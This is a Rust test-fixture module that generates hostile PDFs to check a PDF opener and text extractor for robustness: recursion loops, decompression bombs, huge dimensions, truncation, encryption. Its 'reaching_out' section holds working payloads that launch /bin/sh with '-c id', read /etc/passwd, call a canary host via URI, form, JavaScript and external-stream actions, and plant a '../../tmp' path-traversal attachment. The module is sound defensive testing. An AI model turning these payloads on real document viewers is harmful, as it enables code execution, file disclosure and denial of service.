//! PDFs that attack: the program that opens them, and what parses its words.

use std::fmt::Write;

use super::archive::{Member, archive, deflate};
use super::{Hostile, Meets};

/// A PDF of these objects, numbered from 1, without a cross-reference table: programs rebuild it.
fn pdf(objects: &[Vec<u8>], trailer: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n".to_vec();
    for (before, object) in objects.iter().enumerate() {
        out.extend_from_slice(format!("{} 0 obj\n", before + 1).as_bytes());
        out.extend_from_slice(object);
        out.extend_from_slice(b"\nendobj\n");
    }
    out.extend_from_slice(format!("trailer<</Root 1 0 R{trailer}>>\n%%EOF\n").as_bytes());
    out
}

fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = format!("<</Length {}{dictionary}>>stream\n", bytes.len()).into_bytes();
    out.extend_from_slice(bytes);
    out.extend_from_slice(b"\nendstream");
    out
}

const FONT: &str = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
const PAGE: &str =
    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>";
const WORDS: &str = "BT /F1 12 Tf 72 720 Td (Held since Monday) Tj ET";

/// An honest page, of which one or the other object is replaced.
fn page_with(changes: &[(usize, Vec<u8>)], trailer: &str) -> Vec<u8> {
    let mut objects: Vec<Vec<u8>> = [
        "<</Type/Catalog/Pages 2 0 R>>".as_bytes().to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        PAGE.as_bytes().to_vec(),
        stream("", WORDS.as_bytes()),
        FONT.as_bytes().to_vec(),
    ]
    .into();
    for (number, object) in changes {
        objects.resize_with(objects.len().max(*number), || b"null".to_vec());
        objects[number - 1].clone_from(object);
    }
    pdf(&objects, trailer)
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let (mut low, mut high) = (1_u32, 0_u32);
    for byte in bytes {
        low = (low + u32::from(*byte)) % 65_521;
        high = (high + low) % 65_521;
    }
    [b"\x78\x9C".as_slice(), &deflate(bytes).0, &((high << 16) | low).to_be_bytes()].concat()
}

pub(crate) fn files(canary: &str) -> Vec<Hostile> {
    let mut files = Vec::new();
    let mut add = |name: &str, bytes: Vec<u8>, meets: Meets| {
        files.push(Hostile { name: format!("{name}.pdf"), bytes, meets });
    };
    add("honest", page_with(&[], ""), Meets::Text);
    nesting(&mut add);
    bombs(&mut add);
    reaching_out(canary, &mut add);
    broken(&mut add);
    files
}

fn nesting(add: &mut impl FnMut(&str, Vec<u8>, Meets)) {
    for depth in [10_380, 1_000_000] {
        let deep = format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes();
        add(&format!("array-{depth}-deep"), page_with(&[(6, deep.clone())], ""), Meets::Either);
        add(&format!("needed-array-{depth}-deep"), page_with(&[(3, deep)], ""), Meets::Either);
    }
    let deep = format!("{}{}", "<</a ".repeat(50_000), ">>".repeat(50_000));
    add("dictionaries-50000-deep", page_with(&[(1, deep.into_bytes())], ""), Meets::Either);
    let own = |text: &str| text.as_bytes().to_vec();
    add(
        "pages-that-hold-themselves",
        page_with(&[(2, own("<</Type/Pages/Kids[2 0 R]/Count 1>>"))], ""),
        Meets::Either,
    );
    add(
        "pages-in-a-circle",
        page_with(
            &[
                (2, own("<</Type/Pages/Kids[6 0 R]/Count 9>>")),
                (6, own("<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 2 0 R/Count 9>>")),
            ],
            "",
        ),
        Meets::Either,
    );
    add(
        "parent-that-is-itself",
        page_with(&[(2, own("<</Type/Pages/Kids[3 0 R]/Parent 2 0 R/Count 1>>"))], ""),
        Meets::Either,
    );
    add(
        "length-that-is-itself",
        page_with(&[(4, own("<</Length 4 0 R>>stream\nBT ET\nendstream"))], ""),
        Meets::Either,
    );
    add("object-that-is-itself", page_with(&[(6, own("6 0 R"))], "/Info 6 0 R"), Meets::Text);
    let form =
        stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>", b"/X Do /X Do");
    let page = PAGE.replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>");
    add(
        "form-that-draws-itself",
        page_with(&[(3, page.into_bytes()), (4, stream("", b"/X Do")), (6, form)], ""),
        Meets::Either,
    );
    add(
        "table-that-leads-to-itself",
        [page_with(&[], ""), b"startxref\n0\n%%EOF".to_vec()].concat(),
        Meets::Either,
    );
}

fn bombs(add: &mut impl FnMut(&str, Vec<u8>, Meets)) {
    let vast = zlib(&vec![b' '; 64 << 20]);
    add("stream-bomb", page_with(&[(4, stream("/Filter/FlateDecode", &vast))], ""), Meets::Either);
    let twice = zlib(&vast);
    add(
        "stream-bomb-packed-twice",
        page_with(&[(4, stream("/Filter[/FlateDecode/FlateDecode]", &twice))], ""),
        Meets::Either,
    );
    let runs = zlib(&[129_u8, b' '].repeat(1 << 19));
    add(
        "run-length-bomb",
        page_with(&[(4, stream("/Filter[/FlateDecode/RunLengthDecode]", &runs))], ""),
        Meets::Either,
    );
    let words = zlib(WORDS.repeat(20_000).as_bytes());
    add("words-bomb", page_with(&[(4, stream("/Filter/FlateDecode", &words))], ""), Meets::Either);
    let operators = zlib("q ".repeat(1 << 17).as_bytes());
    add(
        "states-never-restored",
        page_with(&[(4, stream("/Filter/FlateDecode", &operators))], ""),
        Meets::Either,
    );
    let kids = 6..10_006;
    let mut list = String::new();
    for number in kids.clone() {
        write!(list, "{number} 0 R ").unwrap();
    }
    let mut changes = vec![(2, format!("<</Type/Pages/Kids[{list}]/Count 10000>>").into_bytes())];
    changes.extend(kids.map(|number| (number, PAGE.as_bytes().to_vec())));
    add("10000-pages", page_with(&changes, ""), Meets::Either);
    let same = "3 0 R ".repeat(100_000);
    let lies = format!("<</Type/Pages/Kids[{same}]/Count 100000>>").into_bytes();
    add("one-page-100000-times", page_with(&[(2, lies)], ""), Meets::Either);
    add(
        "pages-that-are-counted-only",
        page_with(&[(2, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>".to_vec())], ""),
        Meets::Either,
    );
    let wide = PAGE.replace("612 792", "1e30 1e30");
    add("vast-page", page_with(&[(3, wide.into_bytes())], ""), Meets::Either);
    let stretched = WORDS.replace("/F1 12 Tf", "/F1 1e30 Tf 1e30 Tc 1e30 Tw");
    add("vast-letters", page_with(&[(4, stream("", stretched.as_bytes()))], ""), Meets::Either);
    let map = "1 beginbfrange <0000> <FFFF> <0041> endbfrange ".repeat(200);
    let font = FONT.replace(">>", "/ToUnicode 6 0 R>>");
    add(
        "letters-mapped-without-end",
        page_with(&[(5, font.into_bytes()), (6, stream("", map.as_bytes()))], ""),
        Meets::Either,
    );
    let picture = stream(
        "/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 8/ColorSpace/DeviceGray",
        b"a",
    );
    let page = PAGE.replace("/Resources<<", "/Resources<</XObject<</X 6 0 R>>");
    add(
        "vast-picture",
        page_with(&[(3, page.into_bytes()), (4, stream("", b"/X Do")), (6, picture)], ""),
        Meets::Either,
    );
}

fn reaching_out(canary: &str, add: &mut impl FnMut(&str, Vec<u8>, Meets)) {
    let opening = |action: String| {
        page_with(&[(1, format!("<</Type/Catalog/Pages 2 0 R/OpenAction{action}>>").into_bytes())], "")
    };
    add("asks-for-a-page", opening(format!("<</S/URI/URI(http://{canary}/uri)>>")), Meets::Text);
    add("sends-a-form", opening(format!("<</S/SubmitForm/F(http://{canary}/form)>>")), Meets::Text);
    add(
        "starts-a-program",
        opening("<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c id)>>>>".into()),
        Meets::Text,
    );
    add("opens-another-file", opening("<</S/GoToR/F(file:///etc/passwd)>>".into()), Meets::Text);
    add(
        "runs-a-script",
        opening(format!("<</S/JavaScript/JS(app.launchURL\\(\"http://{canary}/js\"\\))>>")),
        Meets::Text,
    );
    for (name, place) in [
        ("words-in-a-file", "/etc/passwd".to_owned()),
        ("words-on-a-page", format!("http://{canary}/stream")),
    ] {
        let outside = stream(&format!("/F({place})/FFilter/FlateDecode"), b"");
        add(name, page_with(&[(4, outside)], ""), Meets::Either);
    }
    let font = format!(
        "<</Type/Font/Subtype/TrueType/BaseFont/Nobody/FontDescriptor<</FontFile2 6 0 R>>/Encoding 7 0 R/F(http://{canary}/font)>>"
    );
    add(
        "font-from-elsewhere",
        page_with(&[(5, font.into_bytes()), (6, stream("/F(/etc/passwd)", b"no font"))], ""),
        Meets::Either,
    );
    let attached =
        "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(../../tmp/amparo-zip-slip)6 0 R]>>>>>>";
    let file = stream("/Type/EmbeddedFile", b"slipped");
    add("attached-file-that-climbs", page_with(&[(1, attached.into()), (6, file)], ""), Meets::Text);
}

fn broken(add: &mut impl FnMut(&str, Vec<u8>, Meets)) {
    let whole = page_with(&[], "");
    for tenth in 1..10 {
        add(&format!("truncated-{tenth}0"), whole[..whole.len() * tenth / 10].to_vec(), Meets::Either);
    }
    let locked = "/Encrypt<</Filter/Standard/V 1/R 2/P -1/O(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)/U(bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb)>>";
    add("locked", page_with(&[], locked), Meets::Refused("password"));
    add("mark-alone", b"%PDF-1.7".to_vec(), Meets::Refused("cannot be opened"));
    add("noise", [b"%PDF-1.7\n".to_vec(), noise(200_000)].concat(), Meets::Refused(""));
    let mut both = whole.clone();
    both.extend(archive(&[Member::new("word/document.xml", b"<a/>")]));
    add("archive-at-its-end", both, Meets::Either);
    add("no-words", page_with(&[(4, stream("", b""))], ""), Meets::Refused(""));
    let hidden = WORDS.replace("12 Tf", "12 Tf 3 Tr");
    add("words-that-nobody-sees", page_with(&[(4, stream("", hidden.as_bytes()))], ""), Meets::Either);
    add("words-that-are-markup", page_with(&[(4, stream("", b"BT /F1 12 Tf 72 720 Td (</word></line><word>&#0; ]]> <!DOCTYPE a [<!ENTITY x \"y\">]>) Tj ET"))], ""), Meets::Either);
    add(
        "words-of-control-characters",
        page_with(&[(4, stream("", b"BT /F1 12 Tf 72 720 Td (\\000\\001\\002\\033[31m\\007) Tj ET"))], ""),
        Meets::Either,
    );
}

/// Bytes without an order, the same every time.
fn noise(count: usize) -> Vec<u8> {
    let mut state = 0x2545_F491_4F6C_DD1D_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state.to_le_bytes()[0]
    };
    (0..count).map(|_| next()).collect()
}
